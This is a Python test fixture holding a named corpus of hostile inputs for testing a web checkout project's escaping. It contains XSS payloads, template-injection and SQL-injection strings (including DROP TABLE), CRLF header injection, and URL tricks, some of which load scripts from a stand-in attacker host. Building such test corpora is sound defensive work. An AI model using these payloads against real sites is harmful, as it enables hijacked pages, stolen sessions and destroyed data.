"""The hostile-input corpus (issue 11): named values an attacker may put in any field a
merchant, a widget page or a customer controls. A script that runs sets ``window.__pwned``
or fetches ``http://203.0.113.1/...`` (TEST-NET-3: never routed, and the browser tests
abort every request that is not for 127.0.0.1). Used by tests/test_hostile.py (HTTP) and
tests/test_browser_hostile.py (Chromium)."""
from __future__ import annotations

EVIL = "http://203.0.113.1"
PWN = "window.__pwned=1"

#: name -> value (a string: the value as text; the JSON oddities sit in :data:`JSON_ODDITIES`).
PAYLOADS: dict[str, str] = {
    # -- script and HTML -------------------------------------------------------------
    "script": f"<script>{PWN}</script>",
    "script_src": f"<script src={EVIL}/s.js></script>",
    "img_onerror": f"<img src=x onerror={PWN}>",
    "svg_onload": f"<svg onload={PWN}>",
    "iframe_srcdoc": f'"><iframe srcdoc="<script>parent.{PWN}</script>">',
    "textarea_breakout": f"</textarea><script>{PWN}</script>",
    "title_breakout": f"</title><script>{PWN}</script>",
    "template_expr": "{{7*7}}",
    "template_stmt": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "template_dollar": "${7*7}#{7*7}",
    "details_ontoggle": f"<details open ontoggle={PWN}>",
    "body_onload": f"<body onload={PWN}>",
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/m">',
    "base_href": f'<base href="{EVIL}/">',
    "form_action": f'<form action="{EVIL}/f"><button>Pay</button></form>',
    "object_data": f'<object data="{EVIL}/o"></object>',
    "comment_breakout": f"--><script>{PWN}</script><!--",
    "cdata": f"<![CDATA[<script>{PWN}</script>]]>",
    "mixed_case_script": f"<ScRiPt>{PWN}</sCrIpT>",
    # -- attribute breakouts ---------------------------------------------------------
    "dq_attr": f'" onmouseover="{PWN}" autofocus onfocus="{PWN}" x="',
    "sq_attr": f"' onfocus='{PWN}' autofocus x='",
    "unquoted_attr": f"x onfocus={PWN} autofocus",
    "backtick_attr": f"` onfocus=`{PWN}` autofocus",
    "js_string_breakout": f"';{PWN};//\";{PWN};//",
    "script_end_in_json": f"</script><script>{PWN}</script>",
    # -- CSS -------------------------------------------------------------------------
    "style_breakout": f"</style><script>{PWN}</script>",
    "css_url": f"red;background:url({EVIL}/x)",
    "css_import": f"@import url({EVIL}/i.css);",
    "css_expression": f"expression({PWN})",
    "css_escape": "\\3c script\\3e",
    "css_brace": f"red}} body{{background:url({EVIL}/b)}} a{{",
    "style_tag": f"<style>body{{background:url({EVIL}/st)}}</style>",
    # -- URLs ------------------------------------------------------------------------
    "javascript_url": f"javascript:{PWN}",
    "javascript_url_spaced": f" jAvAsCrIpT:{PWN}",
    "javascript_url_tab": f"java\tscript:{PWN}",
    "data_url": f"data:text/html,<script>{PWN}</script>",
    "protocol_relative": "//evil.example/x",
    "backslash_host": "https://evil.example\\.shop.example/",
    "userinfo": "https://shop.example@evil.example/",
    "idn_host": "https://магазин.example/s",
    "idn_homograph": "https://еxample.com/s",  # Cyrillic е
    "vbscript_url": "vbscript:msgbox(1)",
    "bracket_host": "http://[",
    # -- Unicode and control characters ----------------------------------------------
    "bidi_override": "\u202etxt.exe",
    "zero_width": "pa\u200by\u200d\u2060me\ufeffnt",
    "lone_surrogate": "\ud800",
    "nul": "abc\x00def",
    "crlf_header": "x\r\nSet-Cookie: pwned=1\r\nX-Injected: 1",
    "c1_del": "a\x7f\x85\x9bb",
    "combining_flood": "Z" + "\u0336\u0337\u0338" * 300,
    "long_5000": "A" * 5000,
    "emoji_zwj": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "fullwidth_script": "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",
    "arabic_digits": "\u0661\u0662\u0663",
    "rtl_mark_mix": "\u200fשלום<b>bold</b>",
    "line_separator": "a\u2028b\u2029c",
    "sql_quote": "' OR '1'='1'; DROP TABLE checkouts; --",
    "percent_encoded": "%3Cscript%3Ewindow.__pwned%3D1%3C%2Fscript%3E",
    "html_entities": "&lt;script&gt;&#x3c;img src=x onerror=window.__pwned=1&#62;",
}

#: JSON values that are not strings, where strings go.
JSON_ODDITIES: dict[str, object] = {
    "json_object": {"$gt": ""},
    "json_array": ["<script>window.__pwned=1</script>"],
    "json_number": 1e308,
    "json_negative": -1,
    "json_bool": True,
    "json_null_in_list": [None],
    "json_nested": {"a": {"b": {"c": "<svg onload=window.__pwned=1>"}}},
}

#: Payloads a browser would act on if they reached HTML unescaped (used to check pages).
MARKUP = {name: value for name, value in PAYLOADS.items() if "<" in value or '"' in value or "'" in value}
